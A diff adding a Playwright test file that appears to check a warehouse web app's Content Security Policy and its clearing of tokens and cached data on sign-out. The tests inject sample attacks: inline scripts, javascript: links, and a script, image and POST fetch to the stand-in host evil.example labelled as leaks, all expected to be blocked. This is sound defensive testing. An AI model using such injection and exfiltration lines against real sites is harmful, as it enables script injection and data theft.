@@ -1,0 +1,230 @@
+/** The policy in a real browser (SEC-01), and what a tablet still holds after its officer signed out (SEC-02, SEC-19). */
+import { expect, type Page, test } from '@playwright/test';
+import { choose, installed, openSite, type Site, signIn } from '../support/site.ts';
+
+let site: Site;
+test.beforeAll(async () => {
+  site = await openSite();
+});
+test.afterAll(async () => {
+  await site?.close();
+});
+
+/** What the browser refused for the policy's sake: kept by every document of the page, told by `broken()`. */
+async function watchPolicy(page: Page): Promise<() => string[]> {
+  const broken: string[] = [];
+  await page.exposeFunction('tellBroken', (text: string) => broken.push(text));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      const { tellBroken } = window as unknown as { tellBroken: (text: string) => void };
+      tellBroken(`${location.pathname}: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
+    });
+  });
+  return () => broken;
+}
+
+test('SEC-01 an inline script, a handler, made-up code, styles, frames and strangers are blocked', async ({ page }) => {
+  const broken = await watchPolicy(page);
+  await signIn(page, site, 'staff');
+  const done = await page.evaluate(async () => {
+    const ran: string[] = [];
+    Object.assign(window, { ran });
+    const add = (tag: string, more: Record<string, string>) => {
+      const made = document.createElement(tag);
+      for (const [name, value] of Object.entries(more)) {
+        if (name === 'text') made.textContent = value;
+        else made.setAttribute(name, value);
+      }
+      document.body.append(made);
+      return made;
+    };
+    add('script', { text: 'window.ran.push("inline script")' });
+    add('button', { onclick: 'window.ran.push("handler")' }).click();
+    add('a', { href: 'javascript:window.ran.push("address")' }).click();
+    add('script', { src: 'data:text/javascript,window.ran.push("data script")' });
+    add('script', { src: 'https://evil.example/x.js' });
+    add('iframe', { src: 'https://evil.example/' });
+    add('img', { src: 'https://evil.example/leak.png' });
+    add('base', { href: 'https://evil.example/' });
+    add('style', { text: 'body { outline: 3px solid red }' });
+    add('p', { style: 'outline: 3px solid red', text: 'x', id: 'styled' });
+    // Through a timer: what is evaluated for the test itself is not held by the policy.
+    Reflect.apply(setTimeout, window, ['window.ran.push("made-up code")', 0]);
+    await fetch('https://evil.example/leak', { method: 'POST', mode: 'no-cors', body: 'x' }).then(
+      () => ran.push('a request to a stranger'),
+      () => undefined,
+    );
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    if (getComputedStyle(document.body).outlineStyle !== 'none') ran.push('style element');
+    const styled = document.getElementById('styled');
+    if (styled && getComputedStyle(styled).outlineStyle !== 'none') ran.push('style attribute');
+    return ran;
+  });
+  expect(done).toEqual([]);
+  for (const directive of [
+    'script-src-elem',
+    'script-src-attr',
+    'style-src-elem',
+    'style-src-attr',
+    'img-src',
+    'connect-src',
+    'base-uri',
+    'script-src',
+  ])
+    expect(broken().map((one) => one.split(' ')[1])).toContain(directive);
+});
+
+test('SEC-01 nobody frames us', async ({ page }) => {
+  await page.route('**/outside.html', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${site.url}/login"></iframe>` }),
+  );
+  await page.goto(`${site.url}/outside.html`);
+  await page.waitForLoadState('networkidle');
+  await expect(page.frameLocator('iframe').getByLabel('Email')).toHaveCount(0);
+});
+
+test('SEC-01 the app itself never breaks the policy: main screens, dialogs, pickers, charts, messages, prints, exports', async ({
+  page,
+}) => {
+  test.setTimeout(240_000);
+  const broken = await watchPolicy(page);
+  await signIn(page, site, 'admin');
+  for (const path of [
+    '/',
+    '/profile',
+    '/sync',
+    '/warehouses',
+    '/warehouses/create',
+    '/inventory/report',
+    '/inventory/shipment/in',
+    '/inventory/stock/out',
+    '/purchase-orders',
+    '/order-groups',
+    '/pending-orders',
+    '/order-value-summary',
+    '/buyers/buyer_01/balance',
+    '/buyers/buyer_01/virtual-account',
+    '/products',
+    '/products/create',
+    '/products/history',
+    '/report-buyer-reconciliation',
+    '/report-buyer-retention',
+    '/agents/report',
+    '/notification/wizard',
+    '/config-wizard',
+    '/game',
+    '/no-such-screen',
+  ]) {
+    await page.goto(`${site.url}${path}`);
+    await expect(page.locator('h1')).toBeVisible();
+    await expect(page.getByRole('status', { name: 'Loading' })).toHaveCount(0);
+  }
+  // What is made at run time: a dialog, a picker's list, a message, a sheet in a worker.
+  await page.goto(`${site.url}/warehouses/create`);
+  await page.getByLabel('Warehouse type').selectOption({ label: 'Seller' });
+  await choose(page, 'Warehouse owner', 'Mushin Hub');
+  await page.getByRole('button', { name: 'Create', exact: true }).click();
+  await expect(page.getByText('This owner already has an active warehouse.')).toBeVisible();
+  await page.goto(`${site.url}/products`);
+  await page.getByRole('button', { name: 'Export' }).click();
+  const saved = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'Export to Excel' }).click();
+  expect((await saved).suggestedFilename()).toMatch(/\.xlsx$/);
+  await expect(page.getByRole('dialog')).toHaveCount(0);
+  await page.keyboard.press('Control+k');
+  await page.getByRole('combobox', { name: 'Search everywhere' }).fill('milo');
+  await expect(page.getByRole('option').first()).toBeVisible();
+  expect(broken()).toEqual([]);
+});
+
+/** Everything that this browser keeps of the site, as one text: databases, caches, both storages, cookies. */
+const everythingKept = (page: Page) =>
+  page.evaluate(async () => {
+    const kept: Record<string, unknown> = {
+      local: { ...localStorage },
+      session: { ...sessionStorage },
+      cookie: document.cookie,
+    };
+    for (const { name = '' } of await indexedDB.databases()) {
+      const db = await new Promise<IDBDatabase>((resolve, reject) => {
+        const opening = indexedDB.open(name);
+        opening.onsuccess = () => resolve(opening.result);
+        opening.onerror = () => reject(opening.error);
+      });
+      for (const store of db.objectStoreNames) {
+        kept[`${name}.${store}`] = await new Promise((resolve, reject) => {
+          const reading = db.transaction(store).objectStore(store).getAll();
+          reading.onsuccess = () => resolve(reading.result);
+          reading.onerror = () => reject(reading.error);
+        });
+      }
+      db.close();
+    }
+    const cached: string[] = [];
+    for (const name of await caches.keys()) {
+      const cache = await caches.open(name);
+      for (const request of await cache.keys()) cached.push(request.url);
+    }
+    return { text: JSON.stringify(kept), cached, ops: (kept['outbox.ops'] as unknown[] | undefined) ?? [] };
+  });
+
+test('SEC-02 SEC-19 SYNC-40 after signing out no answer, no profile and no token is left; what was not sent is, and the next person does not see it', async ({
+  page,
+}) => {
+  await signIn(page, site, 'officer1');
+  await installed(page);
+  await page.goto(`${site.url}/warehouses`);
+  await expect(page.getByRole('table').locator('tbody tr').first()).toBeVisible();
+  await page.goto(`${site.url}/inventory/shipment/in`);
+  await page.getByRole('button', { name: 'Prepare now' }).click();
+  await expect(page.getByText(/^Ready for offline/)).toBeVisible();
+  site.cutApi(true);
+  await choose(page, 'From Distributor', 'Adéọlá & Sons Trading');
+  await choose(page, 'To Hub', 'Mushin Hub');
+  await page.getByRole('button', { name: 'Save & Add Products' }).click();
+  await expect(page.getByRole('status', { name: 'Sync status' })).toHaveText(/waiting to send/);
+
+  const before = await everythingKept(page);
+  const token = /"token":"([\w-]{43})"/.exec(before.text)?.[1] ?? '';
+  expect(token).not.toBe('');
+  // Once, in the database that the worker reads; nowhere else.
+  expect(before.text.split(token)).toHaveLength(2);
+  expect(before.ops.length).toBeGreaterThan(0);
+  expect(before.text).toContain('warehouse/read_all');
+  expect(before.cached.filter((url) => url.includes('/api/'))).toEqual([]);
+  expect(before.cached.length).toBeGreaterThan(5);
+
+  await page.getByRole('button', { name: 'User menu' }).click();
+  await page.getByRole('button', { name: 'Logout' }).click();
+  await page.getByRole('button', { name: 'Sign out and keep' }).click();
+  await expect(page).toHaveURL(/\/login/);
+  await expect(page.getByText(/on this tablet ha(s|ve) not been sent/)).toBeVisible();
+  const after = await everythingKept(page);
+  expect(after.text).not.toContain(token);
+  for (const gone of [
+    'warehouse/read_all',
+    'product/read_all',
+    'officer1@example.test',
+    'create_stock_in',
+    '"verifier"',
+  ])
+    expect(after.text, gone).not.toContain(gone);
+  // Whatever was tried meanwhile: the same work, whole, of the same author.
+  const work = (ops: unknown[]) =>
+    (ops as Record<string, unknown>[]).map(({ seq, key, user_id, type, payload }) => ({
+      seq,
+      key,
+      user_id,
+      type,
+      payload,
+    }));
+  expect(work(before.ops).every((op) => op.key && op.user_id && op.payload)).toBe(true);
+  expect(work(after.ops)).toEqual(work(before.ops));
+  expect(after.cached.filter((url) => url.includes('/api/'))).toEqual([]);
+
+  site.cutApi(false);
+  await signIn(page, site, 'officer2');
+  await page.goto(`${site.url}/sync`);
+  await expect(page.getByText(/^\d+ changes? by [^ ]+ [^ ]+ waiting$/)).toBeVisible();
+  await expect(page.getByText('Adéọlá')).toHaveCount(0);
+});
